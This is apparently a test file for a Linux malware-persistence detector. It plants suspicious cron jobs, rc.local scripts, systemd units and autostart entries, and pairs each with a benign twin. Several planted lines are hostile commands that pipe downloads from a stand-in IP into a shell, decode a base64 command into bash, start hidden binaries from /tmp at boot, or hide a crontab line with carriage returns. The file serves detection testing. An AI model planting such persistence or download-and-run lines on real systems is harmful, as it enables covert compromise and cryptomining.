"""What starts a miner again: cron, rc.local, units, autostart entries, the preload file."""

from __future__ import annotations

from tests.lab.case import case
from tests.lab.room import Planted, Room

_PI_RC_LOCAL = """#!/bin/sh -e
_IP=$(hostname -I) || true
if [ "$_IP" ]; then
  printf "My IP address is %s\\n" "$_IP"
fi
exit 0
"""
_UNIT = "[Unit]\nDescription={}\n[Service]\nExecStart={}\n[Install]\nWantedBy=multi-user.target\n"


def system_cron(room: Room, name: str, line: str) -> Planted:
    """A line in a file of /etc/cron.d."""
    return {"path": room.write(f"/etc/cron.d/{name}", line + "\n")}


def user_cron(room: Room, user: str, line: str) -> Planted:
    """A line in a user's crontab."""
    return {"path": room.write(f"/var/spool/cron/crontabs/{user}", line + "\n", 0o600)}


@case(2, cron_download_and_run="path")
def cron_download(room: Room) -> Planted:
    """a cron job that pipes a download into a shell."""
    return system_cron(
        room, "lab", "*/15 * * * * root (curl -fsSL http://203.0.113.9/i.sh || wget -qO- http://203.0.113.9/i.sh) | sh"
    )


@cron_download.twin
def _(room: Room) -> Planted:
    """a cron job that calls a web application's timer."""
    return system_cron(room, "web", "*/15 * * * * www-data curl -fsS https://shop.example.org/cron.php >/dev/null 2>&1")


@case(2, cron_download_and_run="path")
def cron_encoded(room: Room) -> Planted:
    """a cron job that decodes its command."""
    return user_cron(room, "root", "0 * * * * echo Y3VybCAtZnNTTCBodHRw | base64 -d | bash")


@cron_encoded.twin
def _(room: Room) -> Planted:
    """a cron job that encodes a backup."""
    return system_cron(room, "backup", "30 3 * * * root tar c /srv | base64 > /var/backups/srv.b64")


@case(9, cron_temporary_or_hidden_program="path")
def cron_at_boot_from_tmp(room: Room) -> Planted:
    """a job that starts a program in /tmp at boot."""
    return user_cron(room, "root", "@reboot /tmp/.X11-unix/a >/dev/null 2>&1")


@cron_at_boot_from_tmp.twin
def _(room: Room) -> Planted:
    """a job that tidies /tmp at boot."""
    return system_cron(room, "tidy", "@reboot root find /tmp/cache -mtime +3 -delete")


@case(9, cron_hidden_home_program="path")
def cron_dot_folder(room: Room) -> Planted:
    """a job that runs a program in a dot folder of a home."""
    return user_cron(room, "root", "5 6 */2 * 0 /root/.configrc5/a/upd >/dev/null 2>&1")


@cron_dot_folder.twin
def _(room: Room) -> Planted:
    """jobs that run certificate and Python tools from dot folders."""
    system_cron(room, "venv", "7 * * * * root /srv/shop/.venv/bin/python /srv/shop/report.py")
    return system_cron(room, "acme", '12 0 * * * root "/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh"')


@case(10, cron_restarts_running_program="pid")
def cron_every_minute(room: Room) -> Planted:
    """a running program that cron starts every minute."""
    system_cron(room, "worker", "* * * * * root /opt/run/worker")
    return {"pid": room.run("/opt/run/worker")}


@cron_every_minute.twin
def _(room: Room) -> Planted:
    """a running program that cron starts once a night."""
    system_cron(room, "report", "10 2 * * * root /opt/shop/report")
    return {"pid": room.run("/opt/shop/report")}


@case(15, cron_for_service_account="path")
def cron_of_service_account(room: Room) -> Planted:
    """a crontab of an account that cannot log in."""
    return user_cron(room, "games", "* * * * * /usr/lib/games/upd")


@cron_of_service_account.twin
def _(room: Room) -> Planted:
    """the web server account's own PHP timer."""
    return user_cron(room, "www-data", "*/5 * * * * php -f /var/www/nextcloud/cron.php")


@case(15, cron_hides_text="path")
def cron_carriage_return(room: Room) -> Planted:
    """a line whose command a carriage return hides from cat."""
    return user_cron(room, "root", "* * * * * /opt/run/worker\rno crontab for root                  \r ")


@cron_carriage_return.twin
def _(room: Room) -> Planted:
    """a crontab with the line ends of another system."""
    return system_cron(room, "crlf", "1 1 * * * root /usr/bin/true\r")


@case(16, rc_local_suspicious_command="path")
def rc_local_download(room: Room) -> Planted:
    """rc.local that pipes a download into a shell."""
    text = "#!/bin/sh\ncurl -fsSL http://203.0.113.9/x.sh | sh &\nexit 0\n"
    return {"path": room.write("/etc/rc.local", text, 0o755)}


@rc_local_download.twin
def _(room: Room) -> Planted:
    """the rc.local of a Raspberry Pi."""
    return {"path": room.write("/etc/rc.local", _PI_RC_LOCAL, 0o755)}


@case(16, unit_file_odd="link_path")
def unit_link_to_tmp(room: Room) -> Planted:
    """a unit that is a link into /var/tmp."""
    target = room.write("/var/tmp/.font/lab.service", _UNIT.format("font cache", "/var/tmp/.font/run"))
    return {"link_path": room.link(target, "/etc/systemd/system/lab.service")}


@unit_link_to_tmp.twin
def _(room: Room) -> Planted:
    """an enabled unit of a package."""
    unit = room.write("/usr/lib/systemd/system/labd.service", _UNIT.format("lab", "/usr/sbin/labd"))
    return {"path": room.link(unit, "/etc/systemd/system/multi-user.target.wants/labd.service")}


@case(16, unit_file_odd="path")
def unit_named_like_miner(room: Room) -> Planted:
    """a unit named c3pool_miner.service."""
    return {"path": room.write("/etc/systemd/system/c3pool_miner.service", _UNIT.format("", "/opt/run/worker"))}


@unit_named_like_miner.twin
def _(room: Room) -> Planted:
    """a unit of a log miner."""
    return {"path": room.write("/etc/systemd/system/logminer.service", _UNIT.format("", "/opt/shop/logminer"))}


@case(5, startup_suspicious_command="path")
def autostart_from_tmp(room: Room) -> Planted:
    """an autostart entry for a program in /tmp."""
    entry = "[Desktop Entry]\nType=Application\nName=Updater\nExec=/tmp/.font/run\n"
    return {"path": room.write("/root/.config/autostart/updater.desktop", entry)}


@autostart_from_tmp.twin
def _(room: Room) -> Planted:
    """an autostart entry of a desktop's own applet."""
    entry = "[Desktop Entry]\nType=Application\nName=Applet\nExec=/usr/bin/nm-applet\n"
    return {"path": room.write("/root/.config/autostart/applet.desktop", entry)}
